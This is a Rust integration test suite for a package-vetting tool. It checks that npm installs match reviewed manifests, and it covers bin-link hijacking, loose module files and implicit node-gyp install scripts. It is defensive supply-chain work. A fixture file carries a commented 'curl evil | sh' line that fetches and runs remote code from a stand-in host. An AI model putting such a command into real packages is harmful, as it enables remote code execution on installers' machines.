//! End to end with the real npm client (issue 10, shapes 3 and 4): what `npm install` does
//! from `vetted serve` is what vetted reviewed, or the admission is rejected.
//!
//! - Shape 4: a packument whose `bin` points at another file than the tarball's package.json
//!   (the attack made npm link `.bin/node` to it) is rejected at admission, naming the field;
//!   the honest release installs, npm's files and `.bin` links (local and global) equal the
//!   reviewed manifest and its `bin`, and `audit-installed` agrees.
//! - Shape 5: a loose `node_modules/<name>.js`, which Node loads before the package, is
//!   unidentified code for `audit-installed`.
//! - Shape 3: a `binding.gyp` with no install script is an install script (`node-gyp
//!   rebuild`): blocked when no audited build had it, and served as `hasInstallScript: true`
//!   once audited.
//!
//! Packages come from a fake upstream on loopback (tests/gate_support). Skipped when `npm` is
//! not on PATH.
mod gate_support;
mod serve_support;

use gate_support::{Published, Upstream, Workspace, days_ago, failed, json, tarball};
use serde_json::json;
use serve_support::{Server, npm, npm_available};
use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Output};

const POLICY: &str = r#"
[[package]]
ecosystem = "npm"
name = "vt-*"
criteria = ["safe-to-run"]
provenance = "if-present"
new-install-scripts = "block"
"#;

fn say(o: &Output) -> String {
    format!(
        "stdout: {}\nstderr: {}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn skip(name: &str) -> bool {
    if !npm_available() {
        eprintln!("SKIPPED {name}: npm is not on PATH");
        return true;
    }
    false
}

/// path -> sha256 hex of every regular file under `dir` (npm's install of one package).
fn files_on_disk(dir: &Path) -> BTreeMap<String, String> {
    use sha2::Digest as _;
    let mut out = BTreeMap::new();
    let mut todo = vec![(dir.to_path_buf(), String::new())];
    while let Some((d, rel)) = todo.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir").flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            let r = if rel.is_empty() {
                name
            } else {
                format!("{rel}/{name}")
            };
            let ft = e.file_type().expect("type");
            if ft.is_dir() {
                todo.push((e.path(), r));
            } else {
                let bytes = std::fs::read(e.path()).expect("read");
                out.insert(r, hex::encode(sha2::Sha256::digest(&bytes)));
            }
        }
    }
    out
}

/// path (without `package/`) -> sha256 hex of every file of the audited manifest.
fn reviewed_files(ws: &Workspace, name: &str, version: &str) -> BTreeMap<String, String> {
    let ledger = vetted::ledger::Ledger::load(&ws.path("ledger")).expect("ledger");
    let audit = ledger
        .audits()
        .find(|a| a.package.name.as_str() == name && a.package.version.as_str() == version)
        .expect("audit")
        .clone();
    let m = vetted::ledger::load_manifest(&ws.path("ledger"), &audit.manifest).expect("manifest");
    m.entries
        .iter()
        .filter(|(_, e)| e.kind == vetted::content::manifest::EntryKind::File)
        .filter_map(|(p, e)| {
            Some((
                p.strip_prefix("package/")?.to_string(),
                e.sha256.as_ref()?.hex(),
            ))
        })
        .collect()
}

fn audit_installed(path: &Path, ws: &Workspace) -> (Option<i32>, serde_json::Value, String) {
    let o = Command::new(env!("CARGO_BIN_EXE_vetted"))
        .arg("audit-installed")
        .arg(path)
        .arg("--ledger")
        .arg(ws.path("ledger"))
        .arg("--json")
        .output()
        .expect("audit");
    let j = serde_json::from_slice(&o.stdout).unwrap_or(serde_json::Value::Null);
    (o.status.code(), j, say(&o))
}

const CLI: &[u8] = b"#!/usr/bin/env node\nconsole.log('the reviewed cli');\n";
const EVIL: &[u8] = b"#!/usr/bin/env node\nconsole.log('unreviewed code ran');\n";

fn tool(version: &str) -> Published {
    let mut p = Published::new("vt-tool", version, &days_ago(5));
    p.meta = json!({"bin": {"vt-tool": "./cli.js"}});
    p.files = vec![
        ("cli.js".into(), CLI.to_vec()),
        ("lib/extra.js".into(), EVIL.to_vec()),
    ];
    p
}

#[test]
fn packument_bin_pointing_at_another_file_is_rejected_and_the_reviewed_bin_is_linked() {
    if skip("packument_bin_pointing_at_another_file_is_rejected_and_the_reviewed_bin_is_linked") {
        return;
    }
    let up = Upstream::start();
    up.publish(tool("1.0.0"));
    // 1.0.1: the same honest tarball, but the packument's bin points .bin/node at another file.
    let mut lying = tool("1.0.1");
    lying.tarball = Some(tarball(&lying));
    lying.meta = json!({"bin": {"vt-tool": "./cli.js", "node": "lib/extra.js"}});
    up.publish(lying);
    let ws = Workspace::new(up, POLICY);
    ws.certify("npm:vt-tool@1.0.0");
    ws.certify("npm:vt-tool@1.0.1");

    let out = ws.admit("npm:vt-tool@1.0.1", &[]);
    assert_eq!(out.status.code(), Some(1), "{}", say(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "vt-tool@1.0.1"), ["metadata"], "{report:#}");
    let text = report.to_string();
    assert!(
        text.contains("bin: the packument says") && text.contains("lib/extra.js"),
        "names the field, expected and actual: {text}"
    );

    let out = ws.admit("npm:vt-tool@1.0.0", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", say(&out));
    let server = Server::start(&ws.path("store"), &[]);
    let home = ws.path("npm-home");

    // Local install: npm's files are the reviewed files, its one .bin link is the reviewed bin.
    let project = ws.path("project");
    let o = npm(&project, &home, &server.base, &["install", "vt-tool@1.0.0"]);
    assert!(o.status.success(), "{}", say(&o));
    let nm = project.join("node_modules");
    assert_eq!(
        files_on_disk(&nm.join("vt-tool")),
        reviewed_files(&ws, "vt-tool", "1.0.0"),
        "npm installed exactly the reviewed files"
    );
    let bins: Vec<String> = std::fs::read_dir(nm.join(".bin"))
        .expect(".bin")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(bins, ["vt-tool"], "no .bin/node");
    assert_eq!(
        std::fs::read_link(nm.join(".bin/vt-tool")).expect("link"),
        Path::new("../vt-tool/cli.js")
    );
    let run = Command::new(nm.join(".bin/vt-tool")).output().expect("run");
    assert_eq!(String::from_utf8_lossy(&run.stdout), "the reviewed cli\n");
    let (code, report, text) = audit_installed(&project, &ws);
    assert_eq!(code, Some(0), "{text}");
    assert_eq!(report["bin_links"][0]["status"], "match", "{report:#}");

    // Shape 5: a loose node_modules/vt-tool.js is what Node loads for require('vt-tool').
    std::fs::write(
        nm.join("vt-tool.js"),
        b"console.log('loose file loaded');\n",
    )
    .expect("loose");
    let run = Command::new("node")
        .args(["-e", "require('vt-tool')"])
        .current_dir(&project)
        .output()
        .expect("node");
    assert_eq!(String::from_utf8_lossy(&run.stdout), "loose file loaded\n");
    let (code, report, text) = audit_installed(&project, &ws);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        report["copies"]
            .as_array()
            .expect("copies")
            .iter()
            .any(|c| c["status"] == "unidentified-code"
                && c["path"]
                    .as_str()
                    .is_some_and(|p| p.ends_with("node_modules/vt-tool.js"))),
        "{report:#}"
    );
    std::fs::remove_file(nm.join("vt-tool.js")).expect("rm");

    // Pointing the link at another (audited) file of the package is caught.
    std::fs::remove_file(nm.join(".bin/vt-tool")).expect("rm");
    std::os::unix::fs::symlink("../vt-tool/lib/extra.js", nm.join(".bin/vt-tool")).expect("ln");
    let (code, report, text) = audit_installed(&project, &ws);
    assert_eq!(code, Some(1), "{text}");
    assert_eq!(report["bin_links"][0]["status"], "modified", "{report:#}");

    // Global install: PREFIX/bin/vt-tool -> ../lib/node_modules/vt-tool/cli.js.
    let o = npm(
        &ws.path("elsewhere"),
        &home,
        &server.base,
        &["install", "-g", "vt-tool@1.0.0"],
    );
    assert!(o.status.success(), "{}", say(&o));
    let prefix = home.join("prefix");
    assert_eq!(
        std::fs::read_link(prefix.join("bin/vt-tool")).expect("link"),
        Path::new("../lib/node_modules/vt-tool/cli.js")
    );
    let (code, report, text) = audit_installed(&prefix, &ws);
    assert_eq!(code, Some(0), "{text}");
    assert_eq!(report["bin_links"][0]["status"], "match", "{report:#}");
    assert_eq!(report["copies"][0]["status"], "match", "{report:#}");
}

fn native(version: &str, gyp: bool) -> Published {
    let mut p = Published::new("vt-native", version, &days_ago(5));
    p.files = vec![("index.js".into(), b"module.exports = 1;\n".to_vec())];
    if gyp {
        p.files.push((
            "binding.gyp".into(),
            b"{ \"targets\": [ { \"target_name\": \"addon\", \"sources\": [\"addon.cc\"] } ] }\n"
                .to_vec(),
        ));
        p.files.push((
            "addon.cc".into(),
            b"// system(\"curl evil | sh\");\n".to_vec(),
        ));
    }
    p
}

#[test]
fn binding_gyp_without_install_script_is_blocked_then_served_with_has_install_script() {
    if skip("binding_gyp_without_install_script_is_blocked_then_served_with_has_install_script") {
        return;
    }
    let up = Upstream::start();
    up.publish(native("1.0.0", false));
    up.publish(native("1.1.0", true));
    let ws = Workspace::new(up, POLICY);
    ws.certify("npm:vt-native@1.0.0");
    // 1.1.0 is let past review by an exemption: the install-script rule still sees node-gyp.
    let cache = ws.path("cache");
    let opts = vetted::source::FetchOptions {
        registry: ws.upstream.url(),
        cache_dir: cache,
        ..Default::default()
    };
    let spec: vetted::source::ArtifactSpec = "npm:vt-native@1.1.0".parse().expect("spec");
    let f = vetted::source::fetch(&spec, &opts).expect("fetch");
    ws.append_ledger(&format!(
        "\n[[exemption]]\necosystem = \"npm\"\nname = \"vt-native\"\nversion = \"1.1.0\"\nsha512 = \"{}\"\ncriteria = [\"safe-to-run\"]\nwho = \"T\"\nexpires = 2999-01-01\nnotes = \"trial\"\n",
        f.digests.sha512.sri()
    ));
    let out = ws.admit("npm:vt-native@1.1.0", &[]);
    assert_eq!(out.status.code(), Some(1), "{}", say(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "vt-native@1.1.0"), ["install-scripts"]);
    assert!(
        report
            .to_string()
            .contains("install: node-gyp rebuild (implicit: binding.gyp)"),
        "{report:#}"
    );

    // Audited with its implicit script: admitted, and served as having an install script.
    ws.certify("npm:vt-native@1.1.0");
    let out = ws.admit("npm:vt-native@1.1.0", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", say(&out));
    let server = Server::start(&ws.path("store"), &[]);
    let home = ws.path("npm-home");
    let project = ws.path("project");
    let view = npm(
        &project,
        &home,
        &server.base,
        &["view", "vt-native@1.1.0", "hasInstallScript", "--json"],
    );
    assert!(view.status.success(), "{}", say(&view));
    assert_eq!(String::from_utf8_lossy(&view.stdout).trim(), "true");
    // No compiler offline: install without running scripts; the files are the reviewed ones.
    let o = npm(
        &project,
        &home,
        &server.base,
        &["install", "vt-native@1.1.0", "--ignore-scripts"],
    );
    assert!(o.status.success(), "{}", say(&o));
    assert_eq!(
        files_on_disk(&project.join("node_modules/vt-native")),
        reviewed_files(&ws, "vt-native", "1.1.0")
    );
    let (code, _, text) = audit_installed(&project, &ws);
    assert_eq!(code, Some(0), "{text}");
}
